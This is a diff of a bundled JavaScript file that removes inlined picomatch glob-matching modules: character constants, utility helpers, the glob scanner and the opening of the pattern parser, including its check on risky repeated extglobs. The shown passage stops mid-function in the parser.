@@ -47,1782 +47,6 @@ var __toESM = (mod, isNodeMode, target) => (target = mod != null ? __create(__ge
   mod
 ));
 
-// node_modules/picomatch/lib/constants.js
-var require_constants = __commonJS({
-  "node_modules/picomatch/lib/constants.js"(exports, module2) {
-    "use strict";
-    var WIN_SLASH = "\\\\/";
-    var WIN_NO_SLASH = `[^${WIN_SLASH}]`;
-    var DEFAULT_MAX_EXTGLOB_RECURSION = 0;
-    var DOT_LITERAL = "\\.";
-    var PLUS_LITERAL = "\\+";
-    var QMARK_LITERAL = "\\?";
-    var SLASH_LITERAL = "\\/";
-    var ONE_CHAR = "(?=.)";
-    var QMARK = "[^/]";
-    var END_ANCHOR = `(?:${SLASH_LITERAL}|$)`;
-    var START_ANCHOR = `(?:^|${SLASH_LITERAL})`;
-    var DOTS_SLASH = `${DOT_LITERAL}{1,2}${END_ANCHOR}`;
-    var NO_DOT = `(?!${DOT_LITERAL})`;
-    var NO_DOTS = `(?!${START_ANCHOR}${DOTS_SLASH})`;
-    var NO_DOT_SLASH = `(?!${DOT_LITERAL}{0,1}${END_ANCHOR})`;
-    var NO_DOTS_SLASH = `(?!${DOTS_SLASH})`;
-    var QMARK_NO_DOT = `[^.${SLASH_LITERAL}]`;
-    var STAR = `${QMARK}*?`;
-    var SEP = "/";
-    var POSIX_CHARS = {
-      DOT_LITERAL,
-      PLUS_LITERAL,
-      QMARK_LITERAL,
-      SLASH_LITERAL,
-      ONE_CHAR,
-      QMARK,
-      END_ANCHOR,
-      DOTS_SLASH,
-      NO_DOT,
-      NO_DOTS,
-      NO_DOT_SLASH,
-      NO_DOTS_SLASH,
-      QMARK_NO_DOT,
-      STAR,
-      START_ANCHOR,
-      SEP
-    };
-    var WINDOWS_CHARS = {
-      ...POSIX_CHARS,
-      SLASH_LITERAL: `[${WIN_SLASH}]`,
-      QMARK: WIN_NO_SLASH,
-      STAR: `${WIN_NO_SLASH}*?`,
-      DOTS_SLASH: `${DOT_LITERAL}{1,2}(?:[${WIN_SLASH}]|$)`,
-      NO_DOT: `(?!${DOT_LITERAL})`,
-      NO_DOTS: `(?!(?:^|[${WIN_SLASH}])${DOT_LITERAL}{1,2}(?:[${WIN_SLASH}]|$))`,
-      NO_DOT_SLASH: `(?!${DOT_LITERAL}{0,1}(?:[${WIN_SLASH}]|$))`,
-      NO_DOTS_SLASH: `(?!${DOT_LITERAL}{1,2}(?:[${WIN_SLASH}]|$))`,
-      QMARK_NO_DOT: `[^.${WIN_SLASH}]`,
-      START_ANCHOR: `(?:^|[${WIN_SLASH}])`,
-      END_ANCHOR: `(?:[${WIN_SLASH}]|$)`,
-      SEP: "\\"
-    };
-    var POSIX_REGEX_SOURCE = {
-      __proto__: null,
-      alnum: "a-zA-Z0-9",
-      alpha: "a-zA-Z",
-      ascii: "\\x00-\\x7F",
-      blank: " \\t",
-      cntrl: "\\x00-\\x1F\\x7F",
-      digit: "0-9",
-      graph: "\\x21-\\x7E",
-      lower: "a-z",
-      print: "\\x20-\\x7E ",
-      punct: "\\-!\"#$%&'()\\*+,./:;<=>?@[\\]^_`{|}~",
-      space: " \\t\\r\\n\\v\\f",
-      upper: "A-Z",
-      word: "A-Za-z0-9_",
-      xdigit: "A-Fa-f0-9"
-    };
-    module2.exports = {
-      DEFAULT_MAX_EXTGLOB_RECURSION,
-      MAX_LENGTH: 1024 * 64,
-      POSIX_REGEX_SOURCE,
-      // regular expressions
-      REGEX_BACKSLASH: /\\(?![*+?^${}(|)[\]])/g,
-      REGEX_NON_SPECIAL_CHARS: /^[^@![\].,$*+?^{}()|\\/]+/,
-      REGEX_SPECIAL_CHARS: /[-*+?.^${}(|)[\]]/,
-      REGEX_SPECIAL_CHARS_BACKREF: /(\\?)((\W)(\3*))/g,
-      REGEX_SPECIAL_CHARS_GLOBAL: /([-*+?.^${}(|)[\]])/g,
-      REGEX_REMOVE_BACKSLASH: /(?:\[.*?[^\\]\]|\\(?=.))/g,
-      // Replace globs with equivalent patterns to reduce parsing time.
-      REPLACEMENTS: {
-        __proto__: null,
-        "***": "*",
-        "**/**": "**",
-        "**/**/**": "**"
-      },
-      // Digits
-      CHAR_0: 48,
-      /* 0 */
-      CHAR_9: 57,
-      /* 9 */
-      // Alphabet chars.
-      CHAR_UPPERCASE_A: 65,
-      /* A */
-      CHAR_LOWERCASE_A: 97,
-      /* a */
-      CHAR_UPPERCASE_Z: 90,
-      /* Z */
-      CHAR_LOWERCASE_Z: 122,
-      /* z */
-      CHAR_LEFT_PARENTHESES: 40,
-      /* ( */
-      CHAR_RIGHT_PARENTHESES: 41,
-      /* ) */
-      CHAR_ASTERISK: 42,
-      /* * */
-      // Non-alphabetic chars.
-      CHAR_AMPERSAND: 38,
-      /* & */
-      CHAR_AT: 64,
-      /* @ */
-      CHAR_BACKWARD_SLASH: 92,
-      /* \ */
-      CHAR_CARRIAGE_RETURN: 13,
-      /* \r */
-      CHAR_CIRCUMFLEX_ACCENT: 94,
-      /* ^ */
-      CHAR_COLON: 58,
-      /* : */
-      CHAR_COMMA: 44,
-      /* , */
-      CHAR_DOT: 46,
-      /* . */
-      CHAR_DOUBLE_QUOTE: 34,
-      /* " */
-      CHAR_EQUAL: 61,
-      /* = */
-      CHAR_EXCLAMATION_MARK: 33,
-      /* ! */
-      CHAR_FORM_FEED: 12,
-      /* \f */
-      CHAR_FORWARD_SLASH: 47,
-      /* / */
-      CHAR_GRAVE_ACCENT: 96,
-      /* ` */
-      CHAR_HASH: 35,
-      /* # */
-      CHAR_HYPHEN_MINUS: 45,
-      /* - */
-      CHAR_LEFT_ANGLE_BRACKET: 60,
-      /* < */
-      CHAR_LEFT_CURLY_BRACE: 123,
-      /* { */
-      CHAR_LEFT_SQUARE_BRACKET: 91,
-      /* [ */
-      CHAR_LINE_FEED: 10,
-      /* \n */
-      CHAR_NO_BREAK_SPACE: 160,
-      /* \u00A0 */
-      CHAR_PERCENT: 37,
-      /* % */
-      CHAR_PLUS: 43,
-      /* + */
-      CHAR_QUESTION_MARK: 63,
-      /* ? */
-      CHAR_RIGHT_ANGLE_BRACKET: 62,
-      /* > */
-      CHAR_RIGHT_CURLY_BRACE: 125,
-      /* } */
-      CHAR_RIGHT_SQUARE_BRACKET: 93,
-      /* ] */
-      CHAR_SEMICOLON: 59,
-      /* ; */
-      CHAR_SINGLE_QUOTE: 39,
-      /* ' */
-      CHAR_SPACE: 32,
-      /*   */
-      CHAR_TAB: 9,
-      /* \t */
-      CHAR_UNDERSCORE: 95,
-      /* _ */
-      CHAR_VERTICAL_LINE: 124,
-      /* | */
-      CHAR_ZERO_WIDTH_NOBREAK_SPACE: 65279,
-      /* \uFEFF */
-      /**
-       * Create EXTGLOB_CHARS
-       */
-      extglobChars(chars) {
-        return {
-          "!": { type: "negate", open: "(?:(?!(?:", close: `))${chars.STAR})` },
-          "?": { type: "qmark", open: "(?:", close: ")?" },
-          "+": { type: "plus", open: "(?:", close: ")+" },
-          "*": { type: "star", open: "(?:", close: ")*" },
-          "@": { type: "at", open: "(?:", close: ")" }
-        };
-      },
-      /**
-       * Create GLOB_CHARS
-       */
-      globChars(win32) {
-        return win32 === true ? WINDOWS_CHARS : POSIX_CHARS;
-      }
-    };
-  }
-});
-
-// node_modules/picomatch/lib/utils.js
-var require_utils = __commonJS({
-  "node_modules/picomatch/lib/utils.js"(exports) {
-    "use strict";
-    var {
-      REGEX_BACKSLASH,
-      REGEX_REMOVE_BACKSLASH,
-      REGEX_SPECIAL_CHARS,
-      REGEX_SPECIAL_CHARS_GLOBAL
-    } = require_constants();
-    exports.isObject = (val) => val !== null && typeof val === "object" && !Array.isArray(val);
-    exports.hasRegexChars = (str2) => REGEX_SPECIAL_CHARS.test(str2);
-    exports.isRegexChar = (str2) => str2.length === 1 && exports.hasRegexChars(str2);
-    exports.escapeRegex = (str2) => str2.replace(REGEX_SPECIAL_CHARS_GLOBAL, "\\$1");
-    exports.toPosixSlashes = (str2) => str2.replace(REGEX_BACKSLASH, "/");
-    exports.isWindows = () => {
-      if (typeof navigator !== "undefined" && navigator.platform) {
-        const platform = navigator.platform.toLowerCase();
-        return platform === "win32" || platform === "windows";
-      }
-      if (typeof process !== "undefined" && process.platform) {
-        return process.platform === "win32";
-      }
-      return false;
-    };
-    exports.removeBackslashes = (str2) => {
-      return str2.replace(REGEX_REMOVE_BACKSLASH, (match) => {
-        return match === "\\" ? "" : match;
-      });
-    };
-    exports.escapeLast = (input, char, lastIdx) => {
-      const idx = input.lastIndexOf(char, lastIdx);
-      if (idx === -1) return input;
-      if (input[idx - 1] === "\\") return exports.escapeLast(input, char, idx - 1);
-      return `${input.slice(0, idx)}\\${input.slice(idx)}`;
-    };
-    exports.removePrefix = (input, state = {}) => {
-      let output = input;
-      if (output.startsWith("./")) {
-        output = output.slice(2);
-        state.prefix = "./";
-      }
-      return output;
-    };
-    exports.wrapOutput = (input, state = {}, options = {}) => {
-      const prepend = options.contains ? "" : "^";
-      const append = options.contains ? "" : "$";
-      let output = `${prepend}(?:${input})${append}`;
-      if (state.negated === true) {
-        output = `(?:^(?!${output}).*$)`;
-      }
-      return output;
-    };
-    exports.basename = (path2, { windows } = {}) => {
-      const segs = path2.split(windows ? /[\\/]/ : "/");
-      const last = segs[segs.length - 1];
-      if (last === "") {
-        return segs[segs.length - 2];
-      }
-      return last;
-    };
-  }
-});
-
-// node_modules/picomatch/lib/scan.js
-var require_scan = __commonJS({
-  "node_modules/picomatch/lib/scan.js"(exports, module2) {
-    "use strict";
-    var utils = require_utils();
-    var {
-      CHAR_ASTERISK,
-      /* * */
-      CHAR_AT,
-      /* @ */
-      CHAR_BACKWARD_SLASH,
-      /* \ */
-      CHAR_COMMA,
-      /* , */
-      CHAR_DOT,
-      /* . */
-      CHAR_EXCLAMATION_MARK,
-      /* ! */
-      CHAR_FORWARD_SLASH,
-      /* / */
-      CHAR_LEFT_CURLY_BRACE,
-      /* { */
-      CHAR_LEFT_PARENTHESES,
-      /* ( */
-      CHAR_LEFT_SQUARE_BRACKET,
-      /* [ */
-      CHAR_PLUS,
-      /* + */
-      CHAR_QUESTION_MARK,
-      /* ? */
-      CHAR_RIGHT_CURLY_BRACE,
-      /* } */
-      CHAR_RIGHT_PARENTHESES,
-      /* ) */
-      CHAR_RIGHT_SQUARE_BRACKET
-      /* ] */
-    } = require_constants();
-    var isPathSeparator = (code2) => {
-      return code2 === CHAR_FORWARD_SLASH || code2 === CHAR_BACKWARD_SLASH;
-    };
-    var depth = (token) => {
-      if (token.isPrefix !== true) {
-        token.depth = token.isGlobstar ? Infinity : 1;
-      }
-    };
-    var scan2 = (input, options) => {
-      const opts = options || {};
-      const length = input.length - 1;
-      const scanToEnd = opts.parts === true || opts.tokens === true || opts.scanToEnd === true;
-      const slashes = [];
-      const tokens = [];
-      const parts2 = [];
-      let str2 = input;
-      let index = -1;
-      let start2 = 0;
-      let lastIndex = 0;
-      let isBrace = false;
-      let isBracket = false;
-      let isGlob = false;
-      let isExtglob = false;
-      let isGlobstar = false;
-      let braceEscaped = false;
-      let backslashes = false;
-      let negated = false;
-      let negatedExtglob = false;
-      let finished = false;
-      let braces = 0;
-      let prev;
-      let code2;
-      let token = { value: "", depth: 0, isGlob: false };
-      const eos = () => index >= length;
-      const peek = () => str2.charCodeAt(index + 1);
-      const advance = () => {
-        prev = code2;
-        return str2.charCodeAt(++index);
-      };
-      while (index < length) {
-        code2 = advance();
-        let next;
-        if (code2 === CHAR_BACKWARD_SLASH) {
-          backslashes = token.backslashes = true;
-          code2 = advance();
-          if (code2 === CHAR_LEFT_CURLY_BRACE) {
-            braceEscaped = true;
-          }
-          continue;
-        }
-        if (braceEscaped === true || code2 === CHAR_LEFT_CURLY_BRACE) {
-          braces++;
-          while (eos() !== true && (code2 = advance())) {
-            if (code2 === CHAR_BACKWARD_SLASH) {
-              backslashes = token.backslashes = true;
-              advance();
-              continue;
-            }
-            if (code2 === CHAR_LEFT_CURLY_BRACE) {
-              braces++;
-              continue;
-            }
-            if (braceEscaped !== true && code2 === CHAR_DOT && (code2 = advance()) === CHAR_DOT) {
-              isBrace = token.isBrace = true;
-              isGlob = token.isGlob = true;
-              finished = true;
-              if (scanToEnd === true) {
-                continue;
-              }
-              break;
-            }
-            if (braceEscaped !== true && code2 === CHAR_COMMA) {
-              isBrace = token.isBrace = true;
-              isGlob = token.isGlob = true;
-              finished = true;
-              if (scanToEnd === true) {
-                continue;
-              }
-              break;
-            }
-            if (code2 === CHAR_RIGHT_CURLY_BRACE) {
-              braces--;
-              if (braces === 0) {
-                braceEscaped = false;
-                isBrace = token.isBrace = true;
-                finished = true;
-                break;
-              }
-            }
-          }
-          if (scanToEnd === true) {
-            continue;
-          }
-          break;
-        }
-        if (code2 === CHAR_FORWARD_SLASH) {
-          slashes.push(index);
-          tokens.push(token);
-          token = { value: "", depth: 0, isGlob: false };
-          if (finished === true) continue;
-          if (prev === CHAR_DOT && index === start2 + 1) {
-            start2 += 2;
-            continue;
-          }
-          lastIndex = index + 1;
-          continue;
-        }
-        if (opts.noext !== true) {
-          const isExtglobChar = code2 === CHAR_PLUS || code2 === CHAR_AT || code2 === CHAR_ASTERISK || code2 === CHAR_QUESTION_MARK || code2 === CHAR_EXCLAMATION_MARK;
-          if (isExtglobChar === true && peek() === CHAR_LEFT_PARENTHESES) {
-            isGlob = token.isGlob = true;
-            isExtglob = token.isExtglob = true;
-            finished = true;
-            if (code2 === CHAR_EXCLAMATION_MARK && index === start2) {
-              negatedExtglob = true;
-            }
-            if (scanToEnd === true) {
-              let parens = 0;
-              while (eos() !== true && (code2 = advance())) {
-                if (code2 === CHAR_BACKWARD_SLASH) {
-                  backslashes = token.backslashes = true;
-                  advance();
-                  continue;
-                }
-                if (code2 === CHAR_LEFT_PARENTHESES) {
-                  parens++;
-                  continue;
-                }
-                if (code2 === CHAR_RIGHT_PARENTHESES && --parens === 0) {
-                  finished = true;
-                  break;
-                }
-              }
-              continue;
-            }
-            break;
-          }
-        }
-        if (code2 === CHAR_ASTERISK) {
-          if (prev === CHAR_ASTERISK) isGlobstar = token.isGlobstar = true;
-          isGlob = token.isGlob = true;
-          finished = true;
-          if (scanToEnd === true) {
-            continue;
-          }
-          break;
-        }
-        if (code2 === CHAR_QUESTION_MARK) {
-          isGlob = token.isGlob = true;
-          finished = true;
-          if (scanToEnd === true) {
-            continue;
-          }
-          break;
-        }
-        if (code2 === CHAR_LEFT_SQUARE_BRACKET) {
-          while (eos() !== true && (next = advance())) {
-            if (next === CHAR_BACKWARD_SLASH) {
-              backslashes = token.backslashes = true;
-              advance();
-              continue;
-            }
-            if (next === CHAR_RIGHT_SQUARE_BRACKET) {
-              isBracket = token.isBracket = true;
-              isGlob = token.isGlob = true;
-              finished = true;
-              break;
-            }
-          }
-          if (scanToEnd === true) {
-            continue;
-          }
-          break;
-        }
-        if (opts.nonegate !== true && code2 === CHAR_EXCLAMATION_MARK && index === start2) {
-          negated = token.negated = true;
-          start2++;
-          continue;
-        }
-        if (opts.noparen !== true && code2 === CHAR_LEFT_PARENTHESES) {
-          isGlob = token.isGlob = true;
-          if (scanToEnd === true) {
-            let parens = 1;
-            while (eos() !== true && (code2 = advance())) {
-              if (code2 === CHAR_BACKWARD_SLASH) {
-                backslashes = token.backslashes = true;
-                advance();
-                continue;
-              }
-              if (code2 === CHAR_LEFT_PARENTHESES) {
-                parens++;
-                continue;
-              }
-              if (code2 === CHAR_RIGHT_PARENTHESES && --parens === 0) {
-                finished = true;
-                break;
-              }
-            }
-            continue;
-          }
-          break;
-        }
-        if (isGlob === true) {
-          finished = true;
-          if (scanToEnd === true) {
-            continue;
-          }
-          break;
-        }
-      }
-      if (opts.noext === true) {
-        isExtglob = false;
-        isGlob = false;
-      }
-      let base = str2;
-      let prefix = "";
-      let glob = "";
-      if (start2 > 0) {
-        prefix = str2.slice(0, start2);
-        str2 = str2.slice(start2);
-        lastIndex -= start2;
-      }
-      if (base && isGlob === true && lastIndex > 0) {
-        base = str2.slice(0, lastIndex);
-        glob = str2.slice(lastIndex);
-      } else if (isGlob === true) {
-        base = "";
-        glob = str2;
-      } else {
-        base = str2;
-      }
-      if (base && base !== "" && base !== "/" && base !== str2) {
-        if (isPathSeparator(base.charCodeAt(base.length - 1))) {
-          base = base.slice(0, -1);
-        }
-      }
-      if (opts.unescape === true) {
-        if (glob) glob = utils.removeBackslashes(glob);
-        if (base && backslashes === true) {
-          base = utils.removeBackslashes(base);
-        }
-      }
-      const state = {
-        prefix,
-        input,
-        start: start2,
-        base,
-        glob,
-        isBrace,
-        isBracket,
-        isGlob,
-        isExtglob,
-        isGlobstar,
-        negated,
-        negatedExtglob
-      };
-      if (opts.tokens === true) {
-        state.maxDepth = 0;
-        if (!isPathSeparator(code2)) {
-          tokens.push(token);
-        }
-        state.tokens = tokens;
-      }
-      if (opts.parts === true || opts.tokens === true) {
-        let prevIndex;
-        for (let idx = 0; idx < slashes.length; idx++) {
-          const n2 = prevIndex !== void 0 ? prevIndex + 1 : start2;
-          const i2 = slashes[idx];
-          const value2 = input.slice(n2, i2);
-          if (opts.tokens) {
-            if (idx === 0 && start2 !== 0) {
-              tokens[idx].isPrefix = true;
-              tokens[idx].value = prefix;
-            } else {
-              tokens[idx].value = value2;
-            }
-            depth(tokens[idx]);
-            state.maxDepth += tokens[idx].depth;
-          }
-          if (i2 >= start2) {
-            parts2.push(value2);
-            prevIndex = i2;
-          }
-        }
-        const n = prevIndex !== void 0 ? prevIndex + 1 : start2;
-        const value = input.slice(n);
-        parts2.push(value);
-        if (opts.tokens && prevIndex && prevIndex + 1 < input.length) {
-          tokens[tokens.length - 1].value = value;
-          depth(tokens[tokens.length - 1]);
-          state.maxDepth += tokens[tokens.length - 1].depth;
-        }
-        state.slashes = slashes;
-        state.parts = parts2;
-      }
-      return state;
-    };
-    module2.exports = scan2;
-  }
-});
-
-// node_modules/picomatch/lib/parse.js
-var require_parse = __commonJS({
-  "node_modules/picomatch/lib/parse.js"(exports, module2) {
-    "use strict";
-    var constants = require_constants();
-    var utils = require_utils();
-    var {
-      MAX_LENGTH,
-      POSIX_REGEX_SOURCE,
-      REGEX_NON_SPECIAL_CHARS,
-      REGEX_SPECIAL_CHARS_BACKREF,
-      REPLACEMENTS
-    } = constants;
-    var expandRange = (args2, options) => {
-      if (typeof options.expandRange === "function") {
-        return options.expandRange(...args2, options);
-      }
-      args2.sort();
-      const value = `[${args2.join("-")}]`;
-      try {
-        new RegExp(value);
-      } catch (ex) {
-        return args2.map((v) => utils.escapeRegex(v)).join("..");
-      }
-      return value;
-    };
-    var syntaxError = (type, char) => {
-      return `Missing ${type}: "${char}" - use "\\\\${char}" to match literal characters`;
-    };
-    var splitTopLevel = (input) => {
-      const parts2 = [];
-      let bracket = 0;
-      let paren = 0;
-      let quote = 0;
-      let value = "";
-      let escaped = false;
-      for (const ch of input) {
-        if (escaped === true) {
-          value += ch;
-          escaped = false;
-          continue;
-        }
-        if (ch === "\\") {
-          value += ch;
-          escaped = true;
-          continue;
-        }
-        if (ch === '"') {
-          quote = quote === 1 ? 0 : 1;
-          value += ch;
-          continue;
-        }
-        if (quote === 0) {
-          if (ch === "[") {
-            bracket++;
-          } else if (ch === "]" && bracket > 0) {
-            bracket--;
-          } else if (bracket === 0) {
-            if (ch === "(") {
-              paren++;
-            } else if (ch === ")" && paren > 0) {
-              paren--;
-            } else if (ch === "|" && paren === 0) {
-              parts2.push(value);
-              value = "";
-              continue;
-            }
-          }
-        }
-        value += ch;
-      }
-      parts2.push(value);
-      return parts2;
-    };
-    var isPlainBranch = (branch) => {
-      let escaped = false;
-      for (const ch of branch) {
-        if (escaped === true) {
-          escaped = false;
-          continue;
-        }
-        if (ch === "\\") {
-          escaped = true;
-          continue;
-        }
-        if (/[?*+@!()[\]{}]/.test(ch)) {
-          return false;
-        }
-      }
-      return true;
-    };
-    var normalizeSimpleBranch = (branch) => {
-      let value = branch.trim();
-      let changed = true;
-      while (changed === true) {
-        changed = false;
-        if (/^@\([^\\()[\]{}|]+\)$/.test(value)) {
-          value = value.slice(2, -1);
-          changed = true;
-        }
-      }
-      if (!isPlainBranch(value)) {
-        return;
-      }
-      return value.replace(/\\(.)/g, "$1");
-    };
-    var hasRepeatedCharPrefixOverlap = (branches) => {
-      const values = branches.map(normalizeSimpleBranch).filter(Boolean);
-      for (let i2 = 0; i2 < values.length; i2++) {
-        for (let j = i2 + 1; j < values.length; j++) {
-          const a = values[i2];
-          const b = values[j];
-          const char = a[0];
-          if (!char || a !== char.repeat(a.length) || b !== char.repeat(b.length)) {
-            continue;
-          }
-          if (a === b || a.startsWith(b) || b.startsWith(a)) {
-            return true;
-          }
-        }
-      }
-      return false;
-    };
-    var parseRepeatedExtglob = (pattern, requireEnd = true) => {
-      if (pattern[0] !== "+" && pattern[0] !== "*" || pattern[1] !== "(") {
-        return;
-      }
-      let bracket = 0;
-      let paren = 0;
-      let quote = 0;
-      let escaped = false;
-      for (let i2 = 1; i2 < pattern.length; i2++) {
-        const ch = pattern[i2];
-        if (escaped === true) {
-          escaped = false;
-          continue;
-        }
-        if (ch === "\\") {
-          escaped = true;
-          continue;
-        }
-        if (ch === '"') {
-          quote = quote === 1 ? 0 : 1;
-          continue;
-        }
-        if (quote === 1) {
-          continue;
-        }
-        if (ch === "[") {
-          bracket++;
-          continue;
-        }
-        if (ch === "]" && bracket > 0) {
-          bracket--;
-          continue;
-        }
-        if (bracket > 0) {
-          continue;
-        }
-        if (ch === "(") {
-          paren++;
-          continue;
-        }
-        if (ch === ")") {
-          paren--;
-          if (paren === 0) {
-            if (requireEnd === true && i2 !== pattern.length - 1) {
-              return;
-            }
-            return {
-              type: pattern[0],
-              body: pattern.slice(2, i2),
-              end: i2
-            };
-          }
-        }
-      }
-    };
-    var buildCharClassStar = (chars) => {
-      const source = chars.length === 1 ? utils.escapeRegex(chars[0]) : `[${chars.map((ch) => utils.escapeRegex(ch)).join("")}]`;
-      return `${source}*`;
-    };
-    var getStarExtglobSequenceChars = (pattern) => {
-      let index = 0;
-      const chars = [];
-      while (index < pattern.length) {
-        const match = parseRepeatedExtglob(pattern.slice(index), false);
-        if (!match || match.type !== "*") {
-          return;
-        }
-        const branches = splitTopLevel(match.body).map((branch2) => branch2.trim());
-        if (branches.length !== 1) {
-          return;
-        }
-        const branch = normalizeSimpleBranch(branches[0]);
-        if (!branch || branch.length !== 1) {
-          return;
-        }
-        chars.push(branch);
-        index += match.end + 1;
-      }
-      if (chars.length < 1) {
-        return;
-      }
-      return chars;
-    };
-    var repeatedExtglobRecursion = (pattern) => {
-      let depth = 0;
-      let value = pattern.trim();
-      let match = parseRepeatedExtglob(value);
-      while (match) {
-        depth++;
-        value = match.body.trim();
-        match = parseRepeatedExtglob(value);
-      }
-      return depth;
-    };
-    var analyzeRepeatedExtglob = (body2, options) => {
-      if (options.maxExtglobRecursion === false) {
-        return { risky: false };
-      }
-      const max = typeof options.maxExtglobRecursion === "number" ? options.maxExtglobRecursion : constants.DEFAULT_MAX_EXTGLOB_RECURSION;
-      const branches = splitTopLevel(body2).map((branch) => branch.trim());
-      if (branches.length > 1) {
-        if (branches.some((branch) => branch === "") || branches.some((branch) => /^[*?]+$/.test(branch)) || hasRepeatedCharPrefixOverlap(branches)) {
-          return { risky: true };
-        }
-      }
-      const safeChars = [];
-      let sawStarSequence = false;
-      let combinable = true;
-      for (const branch of branches) {
-        const chars = getStarExtglobSequenceChars(branch);
-        if (chars) {
-          sawStarSequence = true;
-          safeChars.push(...chars);
-          continue;
-        }
-        const literal = normalizeSimpleBranch(branch);
-        if (literal && literal.length === 1) {
-          safeChars.push(literal);
-          continue;
-        }
-        combinable = false;
-        if (repeatedExtglobRecursion(branch) > max) {
-          return { risky: true };
-        }
-      }
-      if (sawStarSequence) {
-        return combinable ? { risky: true, safeOutput: buildCharClassStar([...new Set(safeChars)]) } : { risky: true };
-      }
-      return { risky: false };
-    };
-    var parse3 = (input, options) => {
-      if (typeof input !== "string") {
-        throw new TypeError("Expected a string");
-      }
-      input = REPLACEMENTS[input] || input;
-      const opts = { ...options };
-      const max = typeof opts.maxLength === "number" ? Math.min(MAX_LENGTH, opts.maxLength) : MAX_LENGTH;
-      let len = input.length;
-      if (len > max) {
-        throw new SyntaxError(`Input length: ${len}, exceeds maximum allowed length: ${max}`);
-      }
-      const bos = { type: "bos", value: "", output: opts.prepend || "" };
-      const tokens = [bos];
-      const capture = opts.capture ? "" : "?:";
-      const PLATFORM_CHARS = constants.globChars(opts.windows);
-      const EXTGLOB_CHARS = constants.extglobChars(PLATFORM_CHARS);
-      const {
-        DOT_LITERAL,
-        PLUS_LITERAL,
-        SLASH_LITERAL,
-        ONE_CHAR,
-        DOTS_SLASH,
-        NO_DOT,
-        NO_DOT_SLASH,
-        NO_DOTS_SLASH,
-        QMARK,
-        QMARK_NO_DOT,
-        STAR,
-        START_ANCHOR
-      } = PLATFORM_CHARS;
-      const globstar = (opts2) => {
-        return `(${capture}(?:(?!${START_ANCHOR}${opts2.dot ? DOTS_SLASH : DOT_LITERAL}).)*?)`;
-      };
-      const nodot = opts.dot ? "" : NO_DOT;
-      const qmarkNoDot = opts.dot ? QMARK : QMARK_NO_DOT;
-      let star = opts.bash === true ? globstar(opts) : STAR;
-      if (opts.capture) {
-        star = `(${star})`;
-      }
-      if (typeof opts.noext === "boolean") {
-        opts.noextglob = opts.noext;
-      }
-      const state = {
-        input,
-        index: -1,
-        start: 0,
-        dot: opts.dot === true,
-        consumed: "",
-        output: "",
-        prefix: "",
-        backtrack: false,
-        negated: false,
-        brackets: 0,
-        braces: 0,
-        parens: 0,
-        quotes: 0,
-        globstar: false,
-        tokens
-      };
-      input = utils.removePrefix(input, state);
-      len = input.length;
-      const extglobs = [];
-      const braces = [];
-      const stack = [];
-      let prev = bos;
-      let value;
-      const eos = () => state.index === len - 1;
-      const peek = state.peek = (n = 1) => input[state.index + n];
-      const advance = state.advance = () => input[++state.index] || "";
-      const remaining = () => input.slice(state.index + 1);
-      const consume = (value2 = "", num = 0) => {
-        state.consumed += value2;
-        state.index += num;
-      };
-      const append = (token) => {
-        state.output += token.output != null ? token.output : token.value;
-        consume(token.value);
-      };
-      const negate = () => {
-        let count = 1;
-        while (peek() === "!" && (peek(2) !== "(" || peek(3) === "?")) {
-          advance();
-          state.start++;
-          count++;
-        }
-        if (count % 2 === 0) {
-          return false;
-        }
-        state.negated = true;
-        state.start++;
-        return true;
-      };
-      const increment = (type) => {
-        state[type]++;
-        stack.push(type);
-      };
-      const decrement = (type) => {
-        state[type]--;
-        stack.pop();
-      };
-      const push = (tok) => {
-        if (prev.type === "globstar") {
-          const isBrace = state.braces > 0 && (tok.type === "comma" || tok.type === "brace");
-          const isExtglob = tok.extglob === true || extglobs.length && (tok.type === "pipe" || tok.type === "paren");
-          if (tok.type !== "slash" && tok.type !== "paren" && !isBrace && !isExtglob) {
-            state.output = state.output.slice(0, -prev.output.length);
-            prev.type = "star";
-            prev.value = "*";
-            prev.output = star;
-            state.output += prev.output;
-          }
-        }
-        if (extglobs.length && tok.type !== "paren") {
-          extglobs[extglobs.length - 1].inner += tok.value;
-        }
-        if (tok.value || tok.output) append(tok);
-        if (prev && prev.type === "text" && tok.type === "text") {
-          prev.output = (prev.output || prev.value) + tok.value;
-          prev.value += tok.value;
-          return;
-        }
-        tok.prev = prev;
-        tokens.push(tok);
-        prev = tok;
-      };
-      const extglobOpen = (type, value2) => {
-        const token = { ...EXTGLOB_CHARS[value2], conditions: 1, inner: "" };
-        token.prev = prev;
-        token.parens = state.parens;
-        token.output = state.output;
-        token.startIndex = state.index;
-        token.tokensIndex = tokens.length;
-        const output = (opts.capture ? "(" : "") + token.open;
-        increment("parens");
-        push({ type, value: value2, output: state.output ? "" : ONE_CHAR });
-        push({ type: "paren", extglob: true, value: advance(), output });
-        extglobs.push(token);
-      };
-      const extglobClose = (token) => {
-        const literal = input.slice(token.startIndex, state.index + 1);
-        const body2 = input.slice(token.startIndex + 2, state.index);
-        const analysis = analyzeRepeatedExtglob(body2, opts);
-        if ((token.type === "plus" || token.type === "star") && analysis.risky) {
-          const safeOutput = analysis.safeOutput ? (token.output ? "" : ONE_CHAR) + (opts.capture ? `(${analysis.safeOutput})` : analysis.safeOutput) : void 0;
-          const open = tokens[token.tokensIndex];
-          open.type = "text";
-          open.value = literal;
-          open.output = safeOutput || utils.escapeRegex(literal);
-          for (let i2 = token.tokensIndex + 1; i2 < tokens.length; i2++) {
-            tokens[i2].value = "";
-            tokens[i2].output = "";
-            delete tokens[i2].suffix;
-          }
-          state.output = token.output + open.output;
-          state.backtrack = true;
-          push({ type: "paren", extglob: true, value, output: "" });
-          decrement("parens");
-          return;
-        }
-        let output = token.close + (opts.capture ? ")" : "");
-        let rest;
-        if (token.type === "negate") {
-          let extglobStar = star;
-          if (token.inner && token.inner.length > 1 && token.inner.includes("/")) {
-            extglobStar = globstar(opts);
-          }
-          if (extglobStar !== star || eos() || /^\)+$/.test(remaining())) {
-            output = token.close = `)$))${extglobStar}`;
-          }
-          if (token.inner.includes("*") && (rest = remaining()) && /^\.[^\\/.]+$/.test(rest)) {
-            const expression = parse3(rest, { ...options, fastpaths: false }).output;
-            output = token.close = `)${expression})${extglobStar})`;
-          }
-          if (token.prev.type === "bos") {
-            state.negatedExtglob = true;
-          }
-        }
-        push({ type: "paren", extglob: true, value, output });
-        decrement("parens");
-      };
-      if (opts.fastpaths !== false && !/(^[*!]|[/()[\]{}"])/.test(input)) {
-        let backslashes = false;
-        let output = input.replace(REGEX_SPECIAL_CHARS_BACKREF, (m, esc, chars, first, rest, index) => {
-          if (first === "\\") {
-            backslashes = true;
-            return m;
-          }
-          if (first === "?") {
-            if (esc) {
